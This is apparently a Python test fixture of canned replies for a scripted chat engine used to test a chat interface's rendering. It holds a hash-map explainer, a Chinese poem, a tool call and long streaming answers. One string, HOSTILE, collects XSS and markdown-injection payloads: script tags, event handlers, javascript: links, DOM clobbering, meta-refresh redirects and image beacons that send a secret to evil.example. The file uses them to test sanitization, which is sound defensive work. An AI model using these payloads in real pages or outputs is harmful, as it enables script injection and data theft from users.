"""What the scripted engine answers to which message: {message: (text, milliseconds a token)}."""

RICH = """Let me think about this: a table, some code and a formula.</think>## A hash map

A hash map keeps **pairs of key and value**. It computes a number from the key, the *hash*, and looks only at the bucket with that
number, so that `get` and `put` take the same time however many pairs there are.

| operation | average | worst |
| --- | --- | --- |
| look up | $O(1)$ | $O(n)$ |
| insert | $O(1)$ | $O(n)$ |
| delete | $O(1)$ | $O(n)$ |

```python
class HashMap:
    def __init__(self, num_buckets=64):
        self.buckets = [[] for _ in range(num_buckets)]

    def put(self, key, value):
        bucket = self.buckets[hash(key) % len(self.buckets)]
        for pair in bucket:
            if pair[0] == key:
                pair[1] = value
                return
        bucket.append([key, value])
```

With $n$ pairs in $m$ buckets the load is $\\alpha = n / m$, and a search that fails looks at

$$E[\\text{steps}] = 1 + \\alpha = 1 + \\frac{n}{m}$$

pairs. Three things to remember:

1. Keys must not change while they are in the map.
2. Equal keys need equal hashes.
3. When $\\alpha$ grows past about 0.75, double the buckets.

> Choose a hash that outsiders cannot foresee, or they will put every key into one bucket.
"""
CHINESE = """</think>## 秋日短诗

山中一夜雨，树叶落满庭。晚来风渐起，何处不秋声。

这首诗写的是**秋天的雨夜**：第一句写雨，第二句写落叶。GLM 模型可以同时书写中文和 English，并且在 100 毫秒内开始回答。
"""
HOSTILE = """</think><script>window.hacked = 1; alert(1)</script>

<img src=x onerror="window.hacked=2"> <svg onload="window.hacked=3"><a xlink:href="javascript:alert(2)">x</a></svg>

<details open ontoggle="window.hacked=4"><summary>s</summary><iframe srcdoc="<script>parent.hacked=5</script>"></iframe></details>

<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=6></style></mglyph></table></mtext></math>

[a](javascript:window.hacked=7) [b](JaVaScRiPt:alert(3)) [c](data:text/html,<script>alert(4)</script>) [d](vbscript:x) [e](https://evil.example/)

![pixel](https://evil.example/p.png?q=secret) ![data](data:image/svg+xml;base64,PHN2Zy8+) ![r](//evil.example/x.png)

$\\href{javascript:window.hacked=8}{x}$ $\\includegraphics{https://evil.example/i.png}$ $\\htmlData{onclick=alert(5)}{y}$ $\\def\\a{\\a\\a}\\a$

$$\\rule{9999999em}{9999999em}$$

```html"><img src=x onerror=window.hacked=9>
<script>window.hacked=10</script>
```

<form action="https://evil.example/"><input name="body"><button formaction="javascript:alert(6)">go</button></form>

<a href="https://evil.example/" ping="https://evil.example/ping" style="position:fixed;inset:0">over everything</a>

<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css"><meta http-equiv="refresh" content="0;url=https://evil.example/">

<div id="composer" class="composer" style="background:url(https://evil.example/b.png)">clobber <img name="getElementById"></div>

<style>@import url(https://evil.example/i.css); body{background:url(https://evil.example/c.png)}</style>

<video src="https://evil.example/v.mp4" autoplay></video><object data="https://evil.example/o"></object><embed src="https://evil.example/e">

[ref]: javascript:alert(7)

[by reference][ref] <javascript:alert(8)> <https://evil.example/auto>

The end of it.
"""
TOOL = (
    "</think>I will look it up.<tool_call>get_weather<arg_key>city</arg_key><arg_value>Paris</arg_value></tool_call>"
)
LONG = "</think>" + "".join(
    f"Paragraph {i} of a long answer says that streams must stay smooth, however long they are.\n\n"
    for i in range(150)
)

ANSWERS = {
    "please answer richly": (RICH, 0),
    "How does a hash map work?": (RICH, 0),
    "写一首关于秋天的短诗": (CHINESE, 0),
    "an autumn poem in chinese": (CHINESE, 0),
    "attack me with markdown": (HOSTILE, 0),
    "call your tool now": (TOOL, 0),
    "a slow answer please": (LONG, 8),
    "an answer at leisure": (LONG, 3),
    "a long quick answer": (LONG, 0),
    "deep nesting of quotes": ("</think>" + ">" * 3000 + " deep\n\nend of it\n", 0),
}
ANSWERS["an answer of twenty thousand tokens"] = (
    "</think>" + "".join(f"## Part {i}\n\n{RICH.partition('</think>')[2]}\n" for i in range(40)),
    0,
)
